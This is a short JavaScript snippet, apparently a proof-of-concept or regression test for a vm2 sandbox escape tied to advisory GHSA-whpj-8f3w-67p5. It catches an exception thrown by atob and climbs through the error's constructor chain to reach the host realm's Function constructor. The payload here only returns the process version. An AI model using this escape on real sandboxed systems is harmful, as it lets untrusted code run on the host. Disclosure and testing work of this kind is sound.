// The constructor of the DOMException that atob throws.
// Source: vm2, GHSA-whpj-8f3w-67p5 (errors of the outer realm).
try { atob("***") } catch (error) { return error.constructor.constructor("return process.version")() }
